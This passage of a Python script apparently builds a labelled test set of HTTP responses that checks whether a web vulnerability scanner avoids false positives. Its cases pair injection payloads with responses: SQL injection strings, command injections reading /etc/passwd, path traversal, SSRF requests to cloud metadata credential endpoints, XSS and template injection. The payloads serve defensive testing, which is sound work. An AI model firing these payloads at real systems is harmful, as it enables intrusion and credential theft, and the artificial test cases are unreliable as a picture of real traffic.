    headers=[["Server", "Microsoft-Azure-Application-Gateway/v2"]], note="Azure Application Gateway WAF block page")

# ---------------------------------------------------------------- BENIGN (hard)
g = "benign"
add("docs-json-quoting-mysql-error", g, "sql-injection", "' OR 1=1--", 200, "application/json",
    '{"id":118,"slug":"fix-mysql-1064","title":"How to fix MySQL error 1064","excerpt":"If MySQL says \\"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version\\", look for a reserved word or a missing quote.","author":"Dana","tags":["mysql","errors"]}', AT,
    note="search API over a knowledge base: short JSON, the error text is article content")
add("docs-json-quoting-pg-error", g, "sql-injection", "' OR 1=1--", 200, "application/json",
    '{"results":[{"id":41,"title":"PostgreSQL: syntax error at or near \\"user\\"","snippet":"Use double quotes around reserved words such as user."}],"total":1}', AT)
add("blog-long-article", g, "sql-injection", "' OR 1=1--", 200, "application/json",
    json.dumps({"id": 7, "title": "Debugging DB errors", "body": ("Lorem ipsum dolor sit amet. " * 80) +
               "ORA-00933: SQL command not properly ended is Oracle's way of saying a clause is misplaced. " + ("Sed ut perspiciatis. " * 80)}), AT)
add("product-syntax-error", g, "sql-injection", "syntax' OR '1'='1", 200, "application/json",
    '{"results":[{"sku":"TS-404","name":"Syntax Error T-Shirt","price":19.99},{"sku":"MG-500","name":"Internal Server Error Mug","price":12.5}]}', AT)
add("product-sku-ora", g, "sql-injection", "orange' OR '1'='1", 200, "application/json",
    '{"results":[{"sku":"ORA-10250","name":"Orange Blossom Honey 250g","price":7.9}]}', AT,
    note="a SKU shaped like an Oracle error code")
add("users-named-root", g, "os-command-injection", "root;id", 200, "application/json",
    '[{"id":1,"username":"root","uid":0,"gid":0,"home":"/root","shell":"/bin/bash"},{"id":2,"username":"admin","uid":1000,"gid":1000,"home":"/home/admin","shell":"/bin/zsh"}]', AT)
add("health-version", g, "sql-injection", "1' OR '1'='1", 200, "application/json",
    '{"status":"UP","components":{"db":{"status":"UP","details":{"database":"PostgreSQL","version":"14.2","validationQuery":"isValid()"}},"diskSpace":{"status":"UP"}},"build":{"version":"2.4.1"}}', AT)
add("health-kernel", g, "os-command-injection", ";uname -a", 200, "application/json",
    '{"status":"ok","host":"web-1","kernel":"5.15.0-91-generic","os":"Linux","uptime":123456}', AT)
add("graphql-validation", g, "sql-injection", "1' OR '1'='1", 200, "application/json",
    '{"errors":[{"message":"Syntax Error: Unexpected Name \\"OR\\".","locations":[{"line":1,"column":22}],"extensions":{"code":"GRAPHQL_PARSE_FAILED"}}]}', AT)
add("graphql-variable-type", g, "sql-injection", "1' OR '1'='1", 200, "application/json",
    '{"errors":[{"message":"Variable \\"$id\\" got invalid value \\"1\' OR \'1\'=\'1\\"; Int cannot represent non-integer value: \\"1\' OR \'1\'=\'1\\"","locations":[{"line":1,"column":8}],"extensions":{"code":"BAD_USER_INPUT"}}]}', AT)
add("generic-500", g, "sql-injection", "1' OR '1'='1", 500, "application/json", '{"error":"internal error"}', AT)
add("app-validation-400", g, "sql-injection", "1' OR '1'='1", 400, "application/json", '{"error":"invalid input"}', AT)
add("app-validation-400-echo", g, "sql-injection", "1' OR '1'='1", 400, "application/json",
    '{"errors":[{"type":"field","value":"1\' OR \'1\'=\'1","msg":"Invalid value","path":"id","location":"query"}]}', AT)
add("html-with-scripts", g, "xss", "<script>alert(1)</script>", 200, "text/html",
    page('<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag("js",new Date());</script>\n<script src="/js/app.js"></script>'), AT)
add("ssti-option-value-49", g, "template-injection", "{{7*7}}", 200, "text/html",
    page('<h2>No results for {{7*7}}</h2>\n<select name="country"><option value="48">Germany</option><option value="49">Ghana</option></select>'), AT,
    note="payload echoed unevaluated; a select list happens to hold value=\"49\"")
add("ssti-json-id-49", g, "template-injection", "{{7*7}}", 200, "application/json",
    '{"query":"{{7*7}}","results":[{"id":"49","name":"Gift card"}]}', AT,
    note="payload echoed unevaluated; an unrelated string id 49")
add("pg-uuid-bound-param", g, "sql-injection", "1' OR '1'='1", 500, "application/json",
    '{"error":"invalid input syntax for type uuid: \\"1\' OR \'1\'=\'1\\""}', AT,
    note="parametrized WHERE id = $1 on a uuid column: the whole payload was bound as one value")
add("pg-int-bound-param-pgx", g, "sql-injection", "1' OR '1'='1", 500, "application/json",
    '{"error":"ERROR: invalid input syntax for type integer: \\"1\' OR \'1\'=\'1\\" (SQLSTATE 22P02)"}', AT,
    note="pgx QueryRow(ctx, \"... WHERE id = $1\", s): the whole payload was bound as one value")
add("mssql-bound-param-conversion", g, "sql-injection", "1' OR '1'='1", 500, "text/plain",
    "System.Data.SqlClient.SqlException (0x80131904): Conversion failed when converting the nvarchar value '1' OR '1'='1' to data type int.", AT,
    note="AddWithValue(\"@id\", s) on an int column: the whole payload is one nvarchar value")
add("mysql-strict-bound-insert", g, "sql-injection", "1' OR '1'='1", 500, "application/json",
    '{"message":"SQLSTATE[HY000]: General error: 1366 Incorrect integer value: \'1\' OR \'1\'=\'1\' for column \'quantity\' at row 1 (Connection: mysql, SQL: insert into `orders` (`quantity`, `updated_at`, `created_at`) values (1\' OR \'1\'=\'1, 2024-03-01 10:00:00, 2024-03-01 10:00:00))","exception":"Illuminate\\\\Database\\\\QueryException"}', AT,
    note="Laravel bound insert in strict mode: the value was rejected as a value")
add("ssrf-blocked-echo-url", g, "ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", 400, "application/json",
    '{"error":"URL not allowed: http://169.254.169.254/latest/meta-data/iam/security-credentials/"}', AT,
    note="the app's own allowlist refused the URL and echoed it")
add("ssrf-blocked-echo-ami", g, "ssrf", "http://169.254.169.254/latest/meta-data/ami-id", 400, "text/plain",
    "Refusing to fetch private address: http://169.254.169.254/latest/meta-data/ami-id\n", AT)
add("ssrf-blocked-echo-gcp", g, "ssrf", "http://metadata.google.internal/computeMetadata/v1/", 400, "application/json",
    '{"error":"invalid_url","message":"Host metadata.google.internal is not allowed (requested http://metadata.google.internal/computeMetadata/v1/)"}', AT)
add("lfi-echo-path", g, "path-traversal", "../../../../etc/passwd", 404, "application/json",
    '{"error":"File not found","path":"../../../../etc/passwd"}', AT)
add("cmd-echo-payload-html", g, "os-command-injection", ";cat /etc/passwd", 200, "text/html",
    page("<p>Host <code>;cat /etc/passwd</code> is not a valid hostname.</p>"), AT)
add("xss-payload-in-textarea-escaped-json-html", g, "xss", "<img src=x onerror=alert(1)>", 200, "text/html",
    page('<script>window.__STATE__ = {"q":"\\u003cimg src=x onerror=alert(1)\\u003e"};</script>'), AT)
add("ldap-docs-json", g, "ldap-injection", "*)(uid=*", 200, "application/json",
    '{"faq":[{"q":"What does Bad search filter mean?","a":"Your LDAP filter has unbalanced parentheses."}]}', AT)
add("nosql-docs", g, "nosql-injection", '{"$gt":""}', 200, "application/json",
    '{"results":[{"title":"MongoServerError: unknown operator: $foo explained","url":"/kb/1234"}]}', AT,
    note="KB search results: short JSON quoting a Mongo error")
add("mssql-cast-article-pagination", g, "sql-injection", "1' OR '1'='1", 200, "application/json",
    '{"page":1,"items":[{"id":9,"title":"Conversion failed when converting the varchar value to data type int - what it means"}]}', AT)
add("template-docs", g, "template-injection", "{{7*7}}", 200, "application/json",
    '{"results":[{"title":"jinja2.exceptions.TemplateSyntaxError: unexpected end of template","answers":3}]}', AT)

add("mysql-duplicate-bound-resubmit", g, "sql-injection", "admin'--", 500, "application/json",
    '{"message":"SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry \'admin\'--\' for key \'users.users_username_unique\' (Connection: mysql, SQL: insert into `users` (`username`, `updated_at`, `created_at`) values (admin\'--, 2024-03-01 10:00:00, 2024-03-01 10:00:00))","exception":"Illuminate\\\\Database\\\\QueryException"}', AT,
    note="a scanner resubmits the same registration payload: the bound value collides with the one stored the first time")
TUT = ("<h1>Understanding Linux users</h1>\n" + "<p>Every process runs as a user. " * 60 + "</p>\n<pre>$ id\nuid=0(root) gid=0(root) groups=0(root)\n$ head -1 /etc/passwd\nroot:x:0:0:root:/root:/bin/bash\n</pre>\n" + "<p>The fields are separated by colons. " * 60 + "</p>")
add("tutorial-page-id-passwd-cmd", g, "os-command-injection", "linux;id", 200, "text/html", page(TUT), AT,
    note="blog search result page showing example output: no context rule for content classes")
add("tutorial-page-id-passwd-lfi", g, "path-traversal", "../../etc/passwd", 200, "text/html", page(TUT), AT)

g = "sql"
add("mysql-php-die-after-layout", g, "sql-injection", "'", 200, "text/html; charset=UTF-8",
    HEAD + "<h2>Product details</h2>\nYou have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''''' at line 1",
    LS, note="mysqli_query(...) or die(mysqli_error($db)) after the layout was printed: 200, >2 KiB, payload shorter than 4 bytes")

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "responses.jsonl"), "w") as f:
    for c in cases:
        f.write(json.dumps(c) + "\n")
ids = [c["id"] for c in cases]
assert len(ids) == len(set(ids)), "duplicate ids"
print(len(cases), "cases")
